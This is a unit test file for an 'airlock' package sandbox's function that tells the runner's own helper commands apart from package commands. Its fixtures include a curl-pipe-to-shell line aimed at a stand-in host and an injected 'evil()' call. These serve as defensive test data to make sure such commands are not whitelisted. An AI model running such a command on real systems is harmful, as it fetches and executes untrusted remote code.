import { describe, expect, it } from 'vitest';
import { isInfrastructureExec } from '../src/infrastructure.js';

describe('isInfrastructureExec', () => {
  it("knows the runner's programs and the import helpers' exact command lines", () => {
    expect(isInfrastructureExec({ path: '/opt/airlock/bin/airlock-exec', argv: ['/opt/airlock/bin/airlock-exec', 'x'] })).toBe(true);
    const node = ['node', '-e', 'require("/opt/airlock/lib/import-package.cjs").run(require, (s) => import(s))', 'pkg'];
    expect(isInfrastructureExec({ path: '/usr/local/bin/node', argv: node })).toBe(true);
    const python = ['/home/jordan/projects/app/.venv/bin/python', '/opt/airlock/lib/import-python.py', 'pkg'];
    expect(isInfrastructureExec({ path: '/home/jordan/projects/app/.venv/bin/python', argv: python })).toBe(true);
  });

  it('does not hide a command of the package that merely names /opt/airlock in an argument', () => {
    expect(
      isInfrastructureExec({ path: '/bin/sh', argv: ['sh', '-c', 'curl http://x.example | sh', '/opt/airlock/bin/airlock-exec'] }),
    ).toBe(false);
    expect(
      isInfrastructureExec({ path: '/usr/local/bin/node', argv: ['node', '-e', 'require("/opt/airlock/lib/import-package.cjs"); evil()'] }),
    ).toBe(false);
  });
});
